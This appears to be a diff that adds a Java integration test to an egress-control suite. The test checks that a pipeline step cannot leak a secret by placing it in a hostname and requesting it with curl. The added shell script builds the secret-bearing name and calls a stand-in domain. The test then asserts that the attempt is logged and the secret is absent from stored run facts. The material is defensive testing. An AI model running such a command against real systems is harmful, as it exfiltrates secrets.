@@ -99,6 +99,24 @@ class EgressIT extends InProject {
     }
 
     @Test
+    void aHostWhoseNameHoldsASecretIsNeitherAskedAboutNorReached() {
+        grant("network: { allow: [\"*.nowhere.invalid\"] }");
+        project.write(
+                "tell.sh", "host=$(printf %s%s canary- of-the-server)\ncurl -sS http://$host.nowhere.invalid/x\n");
+        pipeline("- { id: tell, run: \"sh tell.sh\" }\n");
+
+        succeed("run", "test");
+
+        assertThat(run("logs", "latest").out()).contains("the name of the host holds the value of a secret");
+        assertThat(journal().of("ToolCalled")).as("the command alone").hasSize(1);
+        assertThat(builderos
+                        .api()
+                        .get("/v1/runs/" + latest() + "/facts?limit=1000&after=0")
+                        .toString())
+                .doesNotContain(SharedInstallation.SECRET);
+    }
+
+    @Test
     void eachRequestIsDecidedAndInTheJournalAndTheReceiptHolds() {
         fetching();
 
